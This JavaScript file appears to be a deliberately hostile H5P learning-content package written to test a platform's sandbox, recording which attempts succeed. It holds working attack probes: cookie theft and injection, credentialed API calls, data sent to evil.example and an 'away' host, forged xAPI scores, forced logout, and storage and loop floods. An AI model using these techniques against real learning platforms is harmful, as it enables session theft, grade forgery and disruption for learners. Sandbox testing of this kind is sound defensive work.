// A package that tries everything. What it reached is kept in `window.found`; the test says what must be there.
(() => {
  "use strict";
  const { H5P } = window;
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

  async function tried(attempt) {
    try {
      const got = await Promise.race([attempt(), wait(3000).then(() => { throw new Error("nothing happened"); })]);
      return got ? `REACHED ${got}` : "nothing";
    } catch (error) {
      return `refused: ${error.name}`;
    }
  }

  const loaded = (element, attribute, address) => new Promise((resolve, reject) => {
    element.onload = () => resolve("loaded");
    element.onloadeddata = () => resolve("loaded");
    element.onerror = () => reject(new Error("error"));
    element[attribute] = address;
    document.head.append(element);
  });
  const make = (name, attributes = {}) => Object.assign(document.createElement(name), attributes);

  const probes = (site, away) => ({
    cookie: () => Object.getOwnPropertyDescriptor(Document.prototype, "cookie").get.call(document),
    setCookie: () => {
      const { get, set } = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
      set.call(document, "sessionid=evil; path=/");
      return get.call(document);
    },
    parentPage: () => parent.document.title,
    topPage: () => top.document.title,
    parentName: () => Object.keys(parent.location.href).length,
    frameElement: () => window.frameElement && "element",
    storage: () => {
      const inner = make("iframe");
      document.body.append(inner);
      inner.contentWindow.localStorage.setItem("evil", "1");
      return "written";
    },
    database: () => new Promise((resolve, reject) => {
      const asked = indexedDB.open("evil");
      asked.onsuccess = () => resolve("opened");
      asked.onerror = () => reject(asked.error);
    }),
    caches: async () => (await caches.open("evil")) && "opened",
    serviceWorker: async () => (await navigator.serviceWorker.register(`${site}/static/js/site.js`)) && "registered",
    topNavigation: () => { top.location.href = `${site}/akun/logout/`; return ""; },
    parentNavigation: () => { parent.location.href = away; return ""; },
    popup: () => window.open(away) && "opened",
    dialog: () => window.confirm("Kata sandi Anda?") && "asked",
    download: () => {
      make("a", { href: URL.createObjectURL(new Blob(["x"])), download: "evil.exe" }).click();
      return "";
    },
    session: async () => (await fetch(`${site}/api/v1/me`, { credentials: "include" })).status,
    sessionBlind: async () => (await fetch(`${site}/api/v1/me`, { credentials: "include", mode: "no-cors" })).type,
    sessionPost: () => {
      navigator.sendBeacon(`${site}/api/v1/study/intervals`, "{}"); // says yes even where it is refused
      return "";
    },
    request: () => new Promise((resolve, reject) => {
      const asked = new XMLHttpRequest();
      asked.onload = () => resolve("answered");
      asked.onerror = () => reject(new Error("error"));
      asked.open("GET", `${site}/`);
      asked.send();
    }),
    elsewhere: async () => (await fetch(`${away}/?secret`, { mode: "no-cors" })).type,
    picture: () => loaded(make("img"), "src", `${away}/a.png?secret`),
    sitePicture: () => loaded(make("img"), "src", `${site}/static/images/logo.svg`),
    script: () => loaded(make("script"), "src", `${away}/a.js`),
    siteScript: () => loaded(make("script"), "src", `${site}/static/js/site.js`),
    style: () => loaded(make("link", { rel: "stylesheet" }), "href", `${away}/a.css`),
    film: () => loaded(make("video"), "src", `${away}/a.webm`),
    frame: () => new Promise((resolve, reject) => {
      const inner = make("iframe", { src: `${site}/` });
      document.addEventListener("securitypolicyviolation", () => reject(new Error("policy")), { once: true });
      document.body.append(inner);
    }),
    prefetch: () => loaded(make("link", { rel: "prefetch" }), "href", `${away}/prefetched`),
    socket: () => new Promise((resolve, reject) => {
      const asked = new WebSocket("ws://evil.example/");
      asked.onopen = () => resolve("opened");
      asked.onerror = () => reject(new Error("error"));
    }),
    eventSource: () => new Promise((resolve, reject) => {
      const asked = new EventSource(`${away}/events`);
      asked.onopen = () => resolve("opened");
      asked.onerror = () => reject(new Error("error"));
    }),
    worker: () => new Promise((resolve, reject) => {
      const code = `fetch("${site}/api/v1/me").then(() => postMessage("answered"), () => postMessage(""))`;
      const worker = new Worker(URL.createObjectURL(new Blob([code])));
      worker.onmessage = ({ data }) => (data ? resolve(data) : reject(new Error("refused")));
      worker.onerror = () => reject(new Error("error"));
    }),
    module: async () => (await import(`${site}/static/js/site.js`)) && "imported",
    peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:evil.example" }] }) && "made",
    camera: async () => (await navigator.mediaDevices.getUserMedia({ audio: true })) && "opened",
    clipboard: async () => (await navigator.clipboard.readText()) || "read",
    fullScreen: async () => { await document.documentElement.requestFullscreen(); return "full"; },
    token: () => JSON.stringify(window.H5PIntegration).includes('"token"') && "token",
    learner: () => JSON.stringify(window.H5PIntegration.user).match(/19000|Ayu|Bagus|Lestari/)?.[0],
  });

  const acts = {
    async probe({ site, away }) {
      window.found = {};
      for (const [name, attempt] of Object.entries(probes(site, away))) window.found[name] = await tried(async () => attempt());
      window.isDone = true;
    },
    forge() {
      const event = this.createXAPIEventTemplate("completed");
      event.setScoredResult(100, 100, this, true, true);
      this.trigger(event);
      const { statement } = event.data;
      const say = (changes) => parent.postMessage({ type: "statement", statement: { ...statement, ...changes } }, "*");
      say({ object: { ...statement.object, id: "https://belajar.example/h5p/paket/999" } });
      say({ verb: { id: "http://adlnet.gov/expapi/verbs/mastered" } });
      say({ verb: { id: "http://adlnet.gov/expapi/verbs/voided" } });
      say({ result: { score: { raw: 1e308, max: 1, scaled: 999 }, completion: true } });
      top.postMessage({ from: "h5p-stage", type: "life", media: true }, "*");
      top.postMessage({ from: "h5p-stage", type: "height", height: 1e9 }, "*");
    },
    flood() {
      for (let n = 0; n < 1500; n += 1) this.triggerXAPIScored(1, 1, "answered", true, true);
    },
    chatter() {
      for (let n = 0; n < 20_000; n += 1) parent.postMessage({ type: "life", media: true }, "*");
    },
    state() {
      H5P.setUserData(this.contentId, "state", "x".repeat(5_000_000));
      for (let n = 0; n < 300; n += 1) H5P.setUserData(this.contentId, `part${n}`, "y".repeat(50_000));
    },
    loop() {
      setTimeout(() => { for (;;); }, 500);
    },
    navigate({ away }) {
      setTimeout(() => { location.href = `${away}/?secret`; }, 200);
    },
    form({ site }) {
      const form = make("form", { action: `${site}/akun/logout/`, method: "post" });
      document.body.append(form);
      setTimeout(() => form.submit(), 200);
    },
    alive() {
      setInterval(() => parent.postMessage({ type: "life", media: false }, "*"), 100);
    },
  };

  window.BelajarJahat = class BelajarJahat extends H5P.EventDispatcher {
    constructor(parameters, contentId) {
      super();
      Object.assign(this, { parameters, contentId });
    }

    attach($container) {
      $container.get(0).textContent = `Jahat: ${this.parameters.act}`;
      acts[this.parameters.act].call(this, this.parameters);
    }

    getScore() { return 100; }
    getMaxScore() { return 100; }
  };
})();
